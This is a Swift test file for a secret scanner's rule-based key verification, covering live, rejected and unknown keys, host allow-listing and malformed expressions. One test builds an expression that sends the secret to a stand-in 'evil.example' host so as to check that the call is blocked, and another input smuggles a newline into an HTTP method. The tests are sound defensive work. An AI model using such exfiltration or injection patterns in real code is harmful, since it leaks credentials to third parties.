import Findings
import Rules
import Synchronization
import Testing

@testable import Verify

/// Betterleaks' `validate` expressions in a user's rule file.
struct ExpressionTests {
  private static let secret = "acme_0123456789abcdefABCDEF"

  private static func verdict(
    _ expression: String, hosts: [String] = ["api.acme.example"], parts: [String: [String]] = [:],
    required: String = "",
    _ sender: FakeSender
  ) throws -> Verification {
    let text = """
      [[rules]]
      id = "acme"
      regex = '''acme_[A-Za-z0-9]{22}'''
      validate = '''
      \(expression)
      '''
      \(required)
      """
    let rules = RuleSet(try RuleFile.parse(Array(text.utf8), name: "betterleaks.toml").rules.map(\.rule))
    let found = FoundSecret(
      fingerprint: Fingerprint(rule: "acme", secret: Array(secret.utf8), key: []), rule: "acme",
      value: Array(secret.utf8),
      parts: parts)
    var options = VerificationOptions()
    (options.rate, options.hosts) = (10_000, hosts)
    let outcome = Verifier(rules, options: options, sender: sender).verify([found])
    return try #require(outcome.verdicts[found.fingerprint])
  }

  /// Knows the secret.
  private static func vendor() -> FakeSender {
    FakeSender { request in
      request.headers.contains { $0.hasSuffix(secret) }
        ? .answer(200, #"{"login": "octocat", "org": {"name": "acme"}}"#, headers: ["X-Scopes: read"]) : .answer(401)
    }
  }

  private static let older = """
    cel.bind(r,
      http.get("https://api.acme.example/user", {
        "Accept": "application/json",
        "Authorization": "token " + secret
      }),
      r.status == 200 && r.json.?login.orValue("") != "" ? {
        "result": "valid",
        "username": r.json.?login.orValue(""),
        "scopes": r.headers[?"x-scopes"].orValue("")
      } : r.status in [401, 403] ? {
        "result": "invalid",
        "reason": "Unauthorized"
      } : unknown(r)
    )
    """

  private static let newer = """
    let r = http.get("https://api.acme.example/user", {"Authorization": "Bearer " + finding["secret"]});
    r.status == 200 ? {"result": "valid", "username": r.json?.login ?? "", "org": r.json.org.name}
      : r.status in [401, 403] ? {"result": "invalid"} : unknown(r)
    """

  @Test(arguments: [older, newer]) func `an expression asks, and a made-up secret controls it`(_ text: String) throws {
    let sender = Self.vendor()
    let verdict = try Self.verdict(text, sender)
    #expect(verdict.status == .active && verdict.identity?.user == "octocat" && verdict.host == "api.acme.example")
    #expect(sender.sent.count == 2)
    #expect(try Self.verdict(text, FakeSender { _ in .answer(401) }).status == .inactive)
    let anything = try Self.verdict(text, FakeSender { _ in .answer(200, #"{"login": "x", "org": {"name": "y"}}"#) })
    #expect(anything.status == .unknown && anything.reason == "the endpoint accepts anything")
    let failed = try Self.verdict(text, FakeSender { _ in .answer(500) })
    #expect(failed.status == .unknown && failed.reason?.contains("500") == true)
  }

  @Test func `its hosts need the user's word`() throws {
    let sender = Self.vendor()
    let verdict = try Self.verdict(Self.older, hosts: [], sender)
    #expect(verdict.status == .skipped && verdict.reason?.contains("--verify-host") == true && sender.sent.isEmpty)
    let other = try Self.verdict(
      #"let h = "https://evil." + "example/"; http.get(h + secret, {}).status == 200 ? {"result": "valid"} : {"result": "invalid"}"#,
      hosts: ["api.acme.example"], sender)
    #expect(other.status == .skipped || other.status == .unknown)
    #expect(sender.sent.isEmpty)
  }

  @Test func `what another rule finds nearby is used`() throws {
    let text = """
      let r = http.post("https://api.acme.example/check", {"Authorization": "Basic " + base64.encode(captures["org"] + ":" + secret)}, "a=b");
      r.status == 200 ? {"result": "valid"} : {"result": "invalid"}
      """
    let required = "[[rules.required]]\nid = \"org\""
    let sender = FakeSender { _ in .answer(401) }
    #expect(try Self.verdict(text, required: required, sender).reason?.contains("no org is near") == true)
    #expect(try Self.verdict(text, parts: ["org": ["me"]], required: required, sender).status == .inactive)
    #expect(sender.sent.first?.hasPrefix("POST https://api.acme.example/check") == true)
    #expect(sender.sent.first?.contains("Basic bWU6YWNtZV8") == true)
  }

  /// Thirty names, each bound to twice the text of the one before.
  private static let doubled =
    "let a0 = \"0123456789\"; " + (0..<30).map { "let a\($0 + 1) = a\($0) + a\($0); " }.joined()
    + "http.get(\"https://api.acme.example/\", {})"

  @Test(arguments: [
    ("let r = http.get(\"https://api.acme.example/\", {}); md5(secret)", "`md5` is not understood"),
    ("let r = http.get(\"https://api.acme.example/\", {}); r.status", "no map with a `result`"),
    ("let r = http.get(\"https://api.acme.example/\", {}); {\"result\": \"unknown\", \"reason\": \"quota\"}", "quota"),
    ("let r = http.get(\"https://api.acme.example/\", {}); r.status ? 1 : 2", "neither true nor false"),
    ("let r = http.get(\"https://api.acme.example/\", {}); http.request()", "needs a method and an address"),
    ("let r = http.get(\"https://api.acme.example/\", {}); http.request(\"GET\")", "needs a method and an address"),
    ("let r = http.get(\"https://api.acme.example/\", {}); http.get()", "needs an address"),
    ("let r = http.request(\"GET\\nurl=x\", \"https://api.acme.example/\"); r", "is no word"),
    (doubled, "a text is too long"),
  ]) func `what is not understood is unknown, and says so`(_ text: String, _ reason: String) throws {
    let verdict = try Self.verdict(text, Self.vendor())
    #expect(verdict.status == .unknown && verdict.reason?.contains(reason) == true)
  }
}
